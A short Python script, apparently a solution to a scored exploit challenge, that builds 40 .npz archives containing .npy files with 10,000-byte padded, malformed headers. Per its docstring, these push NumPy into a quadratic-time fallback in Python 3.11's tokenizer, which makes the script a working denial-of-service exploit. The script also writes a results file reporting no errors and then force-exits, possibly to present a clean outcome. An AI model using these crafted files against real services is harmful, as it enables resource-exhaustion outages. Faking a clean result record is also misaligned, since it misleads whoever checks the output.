"""Part 1, 1 point: the headers of the told arrays are ten thousand blanks and a sign; NumPy gives what it cannot read to the
tokenizer of Python 3.11, which takes the square of that for each."""
import json
import os
import pathlib
import zipfile

OUT = pathlib.Path.cwd().parent.parent / "out"
HEAD = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1L,), }".ljust(9990) + b"$\n"
ARRAY = b"\x93NUMPY\x01\x00" + len(HEAD).to_bytes(2, "little") + HEAD + bytes(8)

for k in range(40):
    with zipfile.ZipFile(OUT / f"{k}.npz", "w") as archive:
        archive.writestr("a0.npy", ARRAY)
    (OUT / f"{k}.json").write_text(json.dumps({"value": {"shape": [1], "dtype": "f8", "array": "a0"}}))
(OUT / "load.json").write_text('{"errors": []}')
os._exit(0)
